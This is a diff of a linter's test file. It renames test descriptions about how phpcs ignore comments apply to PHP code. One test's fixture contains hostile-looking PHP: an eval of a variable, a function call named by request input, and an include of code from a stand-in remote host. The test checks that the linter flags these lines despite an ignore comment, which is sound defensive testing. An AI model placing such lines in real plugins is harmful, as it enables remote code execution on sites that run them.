@@ -19,7 +19,7 @@ test.each([
   ['for the file', `${output}\n// phpcs:ignoreFile`],
   ['in the old way', `${output} // @codingStandardsIgnoreLine`],
   ['in the oldest way', `${output} // WPCS: XSS ok.`],
-])('an ignore is understood: %s', async (_, code) => {
+])('an ignore comment applies: %s', async (_, code) => {
   expect(await rules(code)).toEqual([])
 })
 
@@ -39,11 +39,11 @@ test.each([
     ['alternative 3'],
   ],
   ['in a text', `$x = '// phpcs:ignoreFile';\n${output}`, ['escape-output 2']],
-])('an ignore says nothing of other lines and rules: %s', async (_, code, found) => {
+])('an ignore comment does not apply to other lines and rules: %s', async (_, code, found) => {
   expect(await rules(code)).toEqual(found)
 })
 
-test('what a hostile plugin would hide cannot be ignored', async () => {
+test('rules about hidden code cannot be ignored', async () => {
   const code =
     "// phpcs:ignoreFile\neval( $x );\n$f = $_GET['f'];\n$f();\ninclude 'https://tide.example/a.php';"
   expect((await rules(code)).sort()).toEqual(['dangerous-call 2', 'hidden-call 4', 'remote-code 5'])
